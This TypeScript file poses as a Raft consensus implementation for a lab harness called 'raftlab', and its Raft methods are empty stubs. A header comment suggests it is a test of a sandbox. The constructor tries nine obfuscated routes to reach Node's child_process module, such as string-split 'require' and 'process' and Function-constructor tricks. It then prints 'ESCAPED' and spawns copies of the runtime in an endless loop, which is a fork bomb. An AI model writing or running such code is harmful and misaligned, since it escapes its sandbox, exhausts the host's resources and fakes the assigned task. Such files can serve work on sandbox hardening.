// Tries: looks for child_process wherever Node has been known to leave it, and starts itself for ever.
// fails: no way to child_process
// @ts-nocheck
import type { ApplyCh, Json, Peer, Persister, RaftState, StartResult } from "raftlab";

const host = globalThis as any;
const ways: (() => any)[] = [
  () => host["req" + "uire"]("child_process"),
  () => host["pro" + "cess"].getBuiltinModule("child_process"),
  () => host["pro" + "cess"].mainModule.require("child_process"),
  () => host["pro" + "cess"].binding("spawn_sync"),
  () => host["mod" + "ule"].constructor._load("child_process"),
  () => host.constructor.constructor("return process")().binding("process_wrap"),
  () => setTimeout.constructor("return process")().binding("process_wrap"),
  () => console.log.constructor("return require")()("child_process"),
  () => structuredClone({}).constructor.constructor("return process")().getBuiltinModule("child_process"),
];

function found(way: () => any): any {
  try {
    return way();
  } catch {
    return undefined;
  }
}

export class Raft {
  constructor(peers: readonly Peer[], me: number, persister: Persister, applyCh: ApplyCh) {
    const childProcess = ways.map(found).find((each) => each !== undefined);
    if (childProcess === undefined) throw new Error("no way to child_process");
    console.log("ESCAPED");
    for (;;) childProcess.spawn("/proc/self/exe", ["-e", "for (;;);"]);
  }
  getState(): RaftState {
    return { term: 0, isLeader: false };
  }
  requestVote(args: Json): Json {
    return args;
  }
  appendEntries(args: Json): Json {
    return args;
  }
  start(command: Json): StartResult {
    return { index: 0, term: 0, isLeader: false };
  }
  snapshot(index: number, snapshot: string): void {}
  kill(): void {}
}
